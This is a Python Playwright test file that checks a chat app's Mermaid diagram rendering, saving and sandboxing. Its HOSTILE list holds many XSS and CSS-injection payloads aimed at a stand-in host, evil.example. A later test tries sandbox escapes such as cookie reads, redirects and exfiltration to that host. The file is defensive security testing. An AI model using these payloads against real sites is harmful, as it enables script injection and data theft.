"""Diagrams: drawn in a frame without an origin, shown as pictures, saved, and never dangerous."""

from __future__ import annotations

import pytest
from playwright.async_api import Browser, Page, expect

from tests.browser.conftest import Visit, serious_findings
from tests.fixtures import Service
from tests.support.browser import Browser as Anyone
from tests.support.engine import ScriptedEngine

KINDS = {
    "flowchart": "flowchart LR\n  A[Sample] --> B{Pure?}\n  B -- yes --> C([Measure])\n  B -- no --> A",
    "sequence": "sequenceDiagram\n  Ada->>ARGO: question\n  ARGO-->>Ada: answer",
    "class": "classDiagram\n  class Cell {\n    +divide()\n  }\n  Cell <|-- Neuron",
    "state": "stateDiagram-v2\n  [*] --> waiting\n  waiting --> running\n  running --> [*]",
    "er": "erDiagram\n  UNIT ||--o{ PERSON : has",
    "gantt": "gantt\n  dateFormat YYYY-MM-DD\n  section Field\n  Sampling :a1, 2026-01-01, 30d",
    "pie": 'pie title Time\n  "Writing" : 60\n  "Reading" : 40',
    "mindmap": "mindmap\n  root((Method))\n    Rank tests\n    Bootstrap",
    "git": "gitGraph\n  commit\n  branch trial\n  commit",
    "timeline": "timeline\n  title Project\n  2025 : Grant\n  2026 : Field work",
}
HOSTILE = [
    'flowchart LR\n  A["<img src=x onerror=window.hurt=1>"] --> B',
    'flowchart LR\n  A["<script>window.hurt=1</script>"] --> B',
    'flowchart LR\n  A --> B\n  click A "javascript:window.hurt=1"',
    'flowchart LR\n  A --> B\n  click A href "https://evil.example/click" _blank',
    "flowchart LR\n  A --> B\n  click A call hurt()",
    (
        '%%{init: {"securityLevel": "loose", "htmlLabels": true}}%%\n'
        'flowchart LR\n  A["<img src=https://evil.example/a.png onerror=window.hurt=1>"] --> B'
    ),
    (
        '%%{init: {"themeCSS": "*{background:url(https://evil.example/css)}"}}%%\n'
        "flowchart LR\n  A --> B"
    ),
    (
        '%%{init: {"fontFamily": "x;} @import \'https://evil.example/font.css\'; a{b:"}}%%\n'
        "flowchart LR\n  A --> B"
    ),
    "flowchart LR\n  A:::x --> B\n  classDef x fill:url(https://evil.example/fill)",
    "flowchart LR\n  A --> B\n  style A background:url('https://evil.example/style')",
    'flowchart LR\n  A@{ img: "https://evil.example/node.png", label: "x" } --> B',
    'sequenceDiagram\n  participant A as <iframe srcdoc="<script>top.hurt=1</script>">\n  A->>A: x',
    "sequenceDiagram\n  participant A\n  link A: x @ https://evil.example/link\n  A->>A: y",
    'classDiagram\n  class A["<svg onload=window.hurt=1>"]\n  link A "https://evil.example/class"',
    'stateDiagram-v2\n  s1 : <a href="javascript:window.hurt=1">x</a>',
    'mindmap\n  root["<img src=x onerror=top.hurt=1>"]\n    ::icon(fa fa-evil)',
    (
        'gantt\n  title <b onclick="window.hurt=1">x</b>\n  section A\n  b :a1, 2026-01-01, 3d\n'
        '  click a1 href "https://evil.example/gantt"'
    ),
    'pie title "</style><script>window.hurt=1</script>"\n  "<img src=x onerror=hurt()>" : 1',
    'flowchart LR\n  A["`**x** <img src=https://evil.example/md.png>`"] --> B',
    'flowchart LR\n  A["$$\\\\href{javascript:window.hurt=1}{x}$$"] --> B',
    '---\nconfig:\n  securityLevel: loose\n  themeCSS: "a{}"\n---\nflowchart LR\n  A --> B["<a>"]',
    'erDiagram\n  "<img src=https://evil.example/er>" ||--o{ B : "<script>hurt()</script>"',
    'C4Context\n  Person(a, "x", "y", $sprite="https://evil.example/sprite.png", $link="https://evil.example/c4")',
    "architecture-beta\n  service db(logos:https://evil.example/x)[<img src=x onerror=hurt()>]",
]


def fenced(*sources: str) -> str:
    return "\n\n".join(f"```mermaid\n{source}\n```" for source in sources) + "\n\nThe end."


async def ask(page: Page, engine: ScriptedEngine, answer: str) -> None:
    engine.says(answer)
    await page.get_by_label("Your question").fill("Draw")
    await page.keyboard.press("Enter")
    await expect(page.get_by_text("The end.").first).to_be_visible()


@pytest.mark.parametrize("scheme", ["light", "dark"])
async def test_each_kind_is_drawn_and_says_what_it_shows(
    visit: Visit, engine: ScriptedEngine, scheme: str
) -> None:
    page = await visit(scheme=scheme)
    asked: list[str] = []
    page.on("request", lambda request: asked.append(request.url))
    await ask(page, engine, fenced(*KINDS.values()))
    await expect(page.locator("figure.diagram img")).to_have_count(len(KINDS))
    first = page.get_by_role("img", name="Sample; Pure?; Measure")
    await expect(first).to_be_visible()
    drawn = await page.locator("figure.diagram img").evaluate_all(
        "all => all.map((each) => each.naturalWidth > 40 && each.naturalHeight > 20)"
    )
    assert all(drawn)
    assert sum(url.endswith("/diagram.html") for url in asked) == 1
    assert await serious_findings(page) == []


async def test_it_is_made_larger_and_saved(visit: Visit, engine: ScriptedEngine) -> None:
    page = await visit()
    await ask(page, engine, fenced(KINDS["flowchart"]))
    image = page.locator("figure.diagram img")
    await expect(image).to_be_visible()
    narrow = await image.evaluate("each => each.getBoundingClientRect().width")
    await page.get_by_role("button", name="Larger").click()
    assert await image.evaluate("each => each.getBoundingClientRect().width") > narrow
    for name, begins in (("Save as SVG", b"<svg"), ("Save as PNG", b"\x89PNG")):
        async with page.expect_download() as waiting:
            await page.get_by_role("button", name=name).click()
        saved = await (await waiting.value).path()
        assert saved.read_bytes().startswith(begins)
    await page.get_by_text("The diagram as text").click()
    await expect(page.get_by_text("flowchart LR")).to_be_visible()


async def test_what_is_no_diagram_stays_code_and_says_so(
    visit: Visit, engine: ScriptedEngine
) -> None:
    page = await visit()
    await ask(page, engine, fenced("flowchart LR\n  A --> [[[", KINDS["pie"]))
    await expect(page.locator("figure.diagram img")).to_have_count(1)
    await expect(page.get_by_text("cannot be drawn; this is its source")).to_be_visible()
    await expect(page.get_by_text("A --> [[[")).to_be_visible()


async def test_a_hostile_diagram_runs_nothing_and_asks_nobody(
    visit: Visit, engine: ScriptedEngine
) -> None:
    page = await visit()
    hurt: list[str] = []
    page.on("dialog", lambda dialog: hurt.append(dialog.message))
    page.context.on("page", lambda opened: hurt.append(opened.url))
    await ask(page, engine, fenced(*HOSTILE, KINDS["pie"]))
    # What could not be made harmless is shown as its source.
    failed = page.locator(".codebar > span", has_text="cannot be drawn")
    await expect(page.locator("figure.diagram img").or_(failed)).to_have_count(len(HOSTILE) + 1)
    images = page.locator("figure.diagram img")
    for image in await images.all():
        await image.click()
    frames = [await each.evaluate("window.hurt ?? null") for each in page.frames]
    assert frames == [None] * len(page.frames)
    assert hurt == []
    saved = await images.evaluate_all("all => all.map((each) => decodeURIComponent(each.src))")
    for svg in saved:
        assert "<script" not in svg and "<foreignObject" not in svg and "href=" not in svg


async def test_the_frame_that_draws_has_no_origin_and_no_network(
    service: Service, chromium: Browser
) -> None:
    page = await chromium.new_page()
    reached: list[str] = []
    page.on("response", lambda answer: reached.append(answer.url))
    await page.goto(service.url)
    await page.evaluate(
        """() => new Promise((done) => {
          const made = document.createElement('iframe');
          made.setAttribute('sandbox', 'allow-scripts');
          made.onload = done;
          made.src = '/diagram.html';
          document.body.append(made);
        })"""
    )
    frame = next(each for each in page.frames if each.url.endswith("/diagram.html"))
    assert await frame.evaluate("origin") == "null"
    reached.clear()
    tries = (
        "fetch('https://evil.example/')",
        "fetch('/api/me')",
        (
            "new Promise((_, no) => { const i = new Image(); i.onerror = no; i.onload = () => 0; "
            "i.src = 'https://evil.example/x.png'; })"
        ),
        "Promise.resolve().then(() => parent.document.cookie)",
        "Promise.resolve().then(() => localStorage.length)",
        "Promise.resolve().then(() => top.location = 'https://evil.example/')",
        "Promise.resolve().then(() => { if (open('https://evil.example/')) return 1; throw 0; })",
    )
    for each in tries:
        assert await frame.evaluate(f"{each}.then(() => 'done', () => 'refused')") == "refused"
    # Going elsewhere by itself is refused by the page around it.
    await frame.evaluate("location = 'https://evil.example/?secret'")
    await page.evaluate("new Promise((done) => requestAnimationFrame(done))")
    assert [url for url in reached if "evil" in url or url.endswith("/api/me")] == []


async def test_only_that_frame_may_run_its_one_script(service: Service) -> None:
    async with Anyone(service.url) as anyone:
        policy = (await anyone.get("/diagram.html")).headers["content-security-policy"]
    assert policy.startswith("sandbox allow-scripts; default-src 'none'; script-src 'sha256-")
    assert "unsafe-eval" not in policy and "frame-ancestors 'self'" in policy
